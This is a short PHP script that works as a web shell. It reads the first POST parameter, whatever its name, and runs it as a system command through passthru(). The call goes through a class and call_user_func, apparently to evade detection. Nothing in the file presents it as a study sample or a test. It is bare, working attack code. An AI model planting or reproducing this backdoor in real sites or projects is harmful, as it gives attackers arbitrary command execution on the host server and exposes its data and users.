<?php
ignore_user_abort(true);
$p = array_slice($_POST, 0, 1)[0];
class Runner2 { function go($c) { passthru($c); } }
call_user_func(array(new Runner2(), 'go'), $p);
